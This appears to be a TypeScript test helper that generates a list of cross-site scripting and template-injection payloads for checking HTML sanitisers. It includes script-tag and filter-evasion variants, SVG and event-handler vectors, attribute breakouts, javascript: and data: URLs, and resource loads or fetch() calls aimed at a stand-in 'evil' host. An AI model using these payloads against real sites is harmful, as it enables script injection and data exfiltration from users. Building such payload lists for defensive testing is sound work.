/** Texts that become scripts, or fetch something, in a page that takes them for markup. @param evil where they would report to */
export function payloads(evil: string): string[] {
  const act = `pwned=1;fetch('${evil}/x')`;
  const inMarkup = [
    `<script>${act}</script>`,
    `<script src="${evil}/x.js"></script>`,
    `<ScRiPt>${act}</sCrIpT>`,
    `<script type=module>${act}</script>`,
    `<scr<script>ipt>${act}</scr</script>ipt>`,
    `</title><script>${act}</script>`,
    `</textarea><script>${act}</script>`,
    `</script><script>${act}</script>`,
    `--><script>${act}</script>`,
    `]]><script>${act}</script>`,
    `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
    `<template><script>${act}</script></template>`,
    `<math><mtext><script>${act}</script></mtext></math>`,
    `<svg><script>${act}</script></svg>`,
    `<svg/onload=${act}>`,
    `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${act}>#x"/></svg>`,
    `<svg><a xlink:href="javascript:${act}"><text>x</text></a></svg>`,
    `<svg><foreignObject><iframe src="${evil}"></iframe></foreignObject></svg>`,
    `<math href="javascript:${act}">x</math>`,
  ];
  const byEvents = [
    'img src=x onerror',
    'body onload',
    'input autofocus onfocus',
    'video src=x onerror',
    'audio src=x onerror',
  ]
    .concat([
      'details open ontoggle',
      'select autofocus onfocus',
      'marquee onstart',
      'div onmouseover',
      'p style=animation:x onanimationstart',
    ])
    .map((start) => `<${start}="${act}">`);
  const byLoads = [
    'img src',
    'iframe src',
    'embed src',
    'object data',
    'link rel=stylesheet href',
    'link rel=prefetch href',
    'video poster',
    'input type=image src',
    'base href',
    'form action',
  ]
    .map((start) => `<${start}="${evil}/x">`)
    .concat([
      `<meta http-equiv=refresh content="0;url=${evil}">`,
      `<style>@import "${evil}/x";</style>`,
      `<iframe srcdoc="<script>parent.${act}</script>">`,
      `<div style="background:url(${evil}/x)">`,
    ]);
  const inAttributes = [
    `" onmouseover="${act}`,
    `' autofocus onfocus='${act}`,
    `"><img src=x onerror=${act}>`,
    `'><svg onload=${act}>`,
    '` onerror=pwned=1 `',
  ];
  const asAddresses = [
    `javascript:${act}`,
    `JaVaScRiPt:${act}`,
    `java\tscript:${act}`,
    ` javascript:${act}`,
    `data:text/html,<script>${act}</script>`,
    `vbscript:msgbox(1)`,
    `//evil.example/x`,
    `https://evil.example\\@localhost/`,
  ];
  const inTemplates = [
    '{{constructor.constructor("pwned=1")()}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: as other languages of templates write it
    '${pwned=1}',
    '#{pwned=1}',
    '<%= pwned=1 %>',
    '{{7*7}}',
    '$t(pwned)',
    '{{- name}}',
    '<0>x</0>',
  ];
  return [...inMarkup, ...byEvents, ...byLoads, ...inAttributes, ...asAddresses, ...inTemplates];
}
